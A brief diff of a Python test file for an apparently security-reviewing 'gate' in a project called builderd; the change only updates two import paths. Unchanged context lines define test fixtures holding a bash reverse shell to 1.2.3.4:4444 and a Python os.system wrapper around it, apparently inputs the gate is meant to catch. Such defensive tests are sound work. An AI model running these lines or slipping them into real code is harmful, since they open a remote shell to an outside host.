@@ -8,8 +8,8 @@ from dataclasses import replace
 import pytest
 from tests.gate import NOW, Files, Gate, real_gate
 
-from builderd.domain.ids import BuilderId
-from builderd.domain.reviews import Acceptance, Severity
+from builderd.core.ids import BuilderId
+from builderd.review.model import Acceptance, Severity
 
 SHELL = "bash -i >& /dev/tcp/1.2.3.4/4444 0>&1"
 PYTHON_SHELL = f"import os\nos.system('{SHELL}')\n"
